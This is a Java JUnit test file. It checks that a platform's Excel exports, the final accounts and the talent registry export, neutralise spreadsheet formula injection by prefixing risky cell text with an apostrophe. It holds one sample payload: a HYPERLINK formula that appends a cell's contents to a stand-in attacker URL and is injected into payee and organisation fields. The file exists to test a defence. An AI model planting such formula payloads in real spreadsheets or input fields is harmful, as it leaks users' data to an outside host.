package org.xiangli.project;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Text that a spreadsheet would run as a formula (it starts with = + - @, a tab or a carriage
 * return) is written neutralised, with a leading apostrophe, in every workbook the platform writes:
 * the final accounts and the talent export.
 */
class WorkbookFormulasTest extends ProjectApiTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")";

    @Test
    void finalAccountsNeutraliseFormulas() throws IOException {
        String project = createProject("公式测试项目" + unique(), Map.of("COUNTY_FINANCE", "100000.00"), false);
        as(ANJI_ADMIN).document("""
                        mutation($input: RecordFundMovementInput!) { recordFundMovement(input: $input) { movement { amount } } }""")
                .variable("input", Map.of("projectId", project, "kind", "DISBURSEMENT", "source", "COUNTY_FINANCE", "amount", "10.00",
                        "movedOn", today().toString(), "payeeKind", "ORGANISATION", "payee", FORMULA, "voucherNo", "+D-1",
                        "note", "@SUM(1,2)"))
                .execute().errors().verify();
        byte[] xlsx = http.get().uri("/files/projects/" + project + "/final-accounts.xlsx")
                .header("Authorization", "Bearer " + tokenOf(ANJI_ADMIN)).exchange()
                .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
        List<String> texts = texts(xlsx);
        assertThat(texts).contains("'" + FORMULA, "'+D-1", "'@SUM(1,2)");
        assertThat(texts).noneMatch(text -> text.startsWith("=") || text.startsWith("+") || text.startsWith("@"));
    }

    @Test
    void theTalentExportNeutralisesFormulas() throws IOException {
        String name = "公式乡贤" + unique();
        as(ANJI_ADMIN).document("""
                        mutation($input: RegisterTalentInput!) { registerTalent(input: $input) { talent { id } } }""")
                .variable("input", Map.of("name", name, "gender", "FEMALE", "hometownCode", SHANGSHU_VILLAGE,
                        "whereabouts", "INVESTING_FROM_AFAR", "category", "ENTREPRENEUR", "organisation", FORMULA, "title", "-1+2",
                        "consent", Map.of("givenOn", "2025-03-01", "scope", List.of("REGISTRY"))))
                .execute().errors().verify();
        // narrowed to this talent: other tests fill the village with thousands
        byte[] xlsx = http.get().uri(b -> b.path("/files/talents/export.xlsx").queryParam("within", SHANGSHU_VILLAGE)
                        .queryParam("query", name).build())
                .header("Authorization", "Bearer " + tokenOf(ANJI_ADMIN)).exchange()
                .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
        List<String> texts = texts(xlsx);
        assertThat(texts).contains(name, "'" + FORMULA, "'-1+2");
        assertThat(texts).noneMatch(text -> text.startsWith("=") || text.startsWith("-1"));
    }

    /** Every text cell of every sheet; no cell may be a formula either. */
    private static List<String> texts(byte[] xlsx) throws IOException {
        List<String> texts = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            texts.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        return texts;
    }
}
